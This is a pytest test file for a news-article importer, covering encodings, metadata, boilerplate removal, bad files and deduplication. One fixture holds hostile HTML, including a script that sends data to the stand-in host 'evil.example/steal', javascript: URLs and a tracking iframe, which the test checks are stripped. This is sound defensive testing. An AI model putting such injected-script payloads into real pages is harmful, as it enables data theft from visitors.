"""Article import: encodings, metadata, boilerplate, hostile and bad input."""

from __future__ import annotations

import json

import pytest
from conftest import SAMPLE, shared_path

from workbench.core.actions.importing import import_paths
from workbench.core.ingest.reader import MAX_BYTES, IngestError, article_from_text, read_article

BOILERPLATE = ["Skip to main content", "Stay informed", "Sign up to get", "republishing", "(AA)"]
TEXT = "Three people died when protesters set fire to a bank in Athens on Wednesday, police said.\n\n" \
       "The fire started after petrol bombs were thrown at the building.\n"


def test_sample_article_keeps_title_and_outlet_and_loses_boilerplate():
    article = read_article(SAMPLE)
    assert article.title == "Iraqi officials: army retakes Syria border crossing"
    assert article.outlet == "Middle East Eye"
    for junk in BOILERPLATE:
        assert junk not in article.text
    assert article.text.startswith("Iraqi government forces make gains")
    assert article.text.rstrip().endswith("Kerry told reporters in Cairo on Sunday.")
    assert '"hundreds" of soldiers had been killed' in article.text


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1252", "latin-1"])
def test_encodings_are_detected(tmp_path, encoding):
    text = "Café owners in Zürich said prices rose by 5 % — “sharply” — in the last year, officials said.\n" * 3
    if encoding == "latin-1":
        text = text.replace("—", "-").replace("“", '"').replace("”", '"')
    path = tmp_path / f"{encoding}.txt"
    path.write_bytes(text.encode(encoding))
    article = read_article(path)
    assert "Café owners in Zürich" in article.text


def test_headline_byline_date_and_url_lines_become_metadata(tmp_path):
    path = tmp_path / "a.txt"
    path.write_text(
        "http://www.reuters.com/article/greece-bank\nThree killed as rioters bomb Greek bank\nBy Jane Doe\n"
        "May 5, 2010\n" + TEXT, encoding="utf-8")
    article = read_article(path)
    assert (article.title, article.author, article.published, article.url, article.outlet) == (
        "Three killed as rioters bomb Greek bank", "Jane Doe", "2010-05-05",
        "http://www.reuters.com/article/greece-bank", "Reuters")
    assert article.text.startswith("Three people died")


def test_labelled_header_lines_of_an_export_become_metadata(tmp_path):
    # as clipping services and news databases export articles: labels say what each line is
    path = tmp_path / "export.txt"
    path.write_text(
        "Title: Three killed as rioters bomb Greek bank\nSource: The Daily Ledger\nDate: 5 May 2010\n"
        "Byline: By Jane Doe\nSection: WORLD; Pg. 4\nLength: 412 words\n\n" + TEXT
        + "\n\nLoad-Date: May 6, 2010\nLanguage: ENGLISH\n", encoding="utf-8")
    article = read_article(path)
    assert (article.title, article.outlet, article.author, article.published) == (
        "Three killed as rioters bomb Greek bank", "The Daily Ledger", "Jane Doe", "2010-05-05")
    assert article.text.startswith("Three people died")
    assert not any(word in article.text for word in ("Section:", "Length:", "Load-Date", "Language:"))


def test_a_sentence_that_opens_with_a_label_word_stays_in_the_body(tmp_path):
    path = tmp_path / "a.txt"
    path.write_text("Source: The ministry said 40 people died. Officials confirmed the toll on Monday.\n"
                    "More fighting was reported in the north.\n", encoding="utf-8")
    article = read_article(path)
    assert article.outlet is None and article.text.startswith("Source: The ministry said 40 people died.")


def test_markdown_markup_is_removed(tmp_path):
    path = tmp_path / "a.md"
    path.write_text("# Bank fire in Athens\n\n**Three people** died, [police](http://x.example) said.\n\n"
                    "<script>alert(1)</script>\n\n" + TEXT, encoding="utf-8")
    article = read_article(path)
    assert article.title == "Bank fire in Athens"
    assert "Three people died, police said." in article.text
    assert "alert" not in article.text and "**" not in article.text


def test_hostile_html_is_reduced_to_inert_plain_text(tmp_path):
    html = """<html><head><title>Bank fire</title><script>fetch('http://evil.example/steal')</script>
    <link rel="canonical" href="javascript:alert(1)"></head><body onload="alert(2)">
    <nav>Home | World | Sign in</nav><article><h1>Bank fire in Athens</h1>
    <p>Three people died when protesters set fire to a bank in Athens on Wednesday, police said.</p>
    <img src="http://evil.example/pixel.png"><p>The fire started after petrol bombs were thrown at the
    building, <a href="javascript:alert(3)">witnesses</a> told reporters on Wednesday afternoon.</p>
    <iframe src="http://evil.example/frame"></iframe><p>Firefighters fought the blaze for two hours before it was
    brought under control, the fire service said in a statement.</p></article></body></html>"""
    path = tmp_path / "page.html"
    path.write_text(html, encoding="utf-8")
    article = read_article(path)
    assert "Three people died" in article.text and "witnesses told reporters" in article.text
    for bad in ("fetch(", "evil.example", "javascript:", "<", "alert"):
        assert bad not in article.text
    assert article.url is None  # a javascript: canonical URL is dropped


def test_malformed_html_still_imports(tmp_path):
    path = tmp_path / "broken.html"
    path.write_text("<html><body><div><p>Three people died when protesters set fire to a bank in Athens, police"
                    " said on Wednesday in a statement to reporters.<p>Fire crews arrived within minutes of the"
                    " first call, officials said.</b></i></div></span>", encoding="utf-8")
    assert "Three people died" in read_article(path).text


@pytest.mark.parametrize("content, reason", [
    (b"", "empty"),
    (b"   \n\n  ", "empty"),
    (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, "PNG image"),
    (b"%PDF-1.7\n" + bytes(range(256)) * 20, "PDF"),
    (bytes(range(256)) * 40, "binary"),
    (b"<html><body><script>var x = 1;</script><nav>Home</nav></body></html>", "no article text"),
])
def test_bad_files_get_a_clear_error_naming_the_file(tmp_path, content, reason):
    path = tmp_path / "bad.txt"
    path.write_bytes(content)
    with pytest.raises(IngestError) as info:
        read_article(path)
    message = str(info.value)
    assert message.startswith(str(path)) and reason in message and "\n" not in message


def test_huge_file_is_refused_before_reading(tmp_path):
    path = tmp_path / "huge.txt"
    with path.open("wb") as f:
        f.truncate(MAX_BYTES + 1)
    with pytest.raises(IngestError, match="too large"):
        read_article(path)


def test_folder_import_keeps_good_files_reports_bad_ones_and_is_idempotent(store, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(TEXT, encoding="utf-8")
    (folder / "other.md").write_text("# Strike\n\nWorkers walked out across Greece on Wednesday, unions said.\n",
                                     encoding="utf-8")
    (folder / "bad.txt").write_bytes(b"\x00\x01\x02\x03" * 500)
    (folder / "ignored.png").write_bytes(b"\x89PNG")
    result = import_paths(store, [folder])
    assert len(result.imported) == 2
    assert len(result.errors) == 1 and "bad.txt" in result.errors[0]
    before = store.table_counts()
    again = import_paths(store, [folder])
    assert again.imported == [] and len(again.duplicates) == 2
    assert store.table_counts() == before


def test_same_article_reflowed_is_a_duplicate(store, tmp_path):
    (tmp_path / "a.txt").write_text(TEXT, encoding="utf-8")
    (tmp_path / "b.txt").write_text(TEXT.replace(" ", "  ").replace("\n\n", "\n"), encoding="utf-8")
    result = import_paths(store, [tmp_path / "a.txt", tmp_path / "b.txt"])
    assert len(result.imported) == 1 and len(result.duplicates) == 1


def test_pasted_text_becomes_an_article():
    article = article_from_text("Bank fire in Athens\n\n" + TEXT)
    assert article.title == "Bank fire in Athens" and article.format == "paste"
    with pytest.raises(IngestError, match="no text"):
        article_from_text("   ")


def test_html_corpus_pages_keep_their_gold_snippets():
    corpus = shared_path("corpus", "articles", "html-trafilatura")
    rows = [json.loads(line) for line in (corpus / "expected.jsonl").read_text().splitlines() if line.strip()]
    hits = total = 0
    for row in rows:
        article = read_article(corpus / row["file"])
        flat = " ".join(f"{article.title}\n{article.text}".split())
        hits += sum(" ".join(s.split()) in flat for s in row["with"])
        hits += sum(" ".join(s.split()) not in flat for s in row["without"])
        total += len(row["with"]) + len(row["without"])
    assert hits / total >= 0.94  # trafilatura.extract alone scores 0.941 here (benchmarks/ingest.py)


def test_a_headline_may_end_with_a_quoted_word_and_titles_never_span_lines(tmp_path):
    path = tmp_path / "a.txt"
    path.write_text("Greek Prime Minister Calls Bank Workers' Riot Deaths 'Murder'\n" + TEXT, encoding="utf-8")
    assert read_article(path).title == "Greek Prime Minister Calls Bank Workers' Riot Deaths 'Murder'"
    path.write_text('"We will not stop," the minister said.\nThree people died in the fire, police said.\n',
                    encoding="utf-8")
    title = read_article(path).title
    assert "\n" not in title and title.startswith('"We will not stop,"')
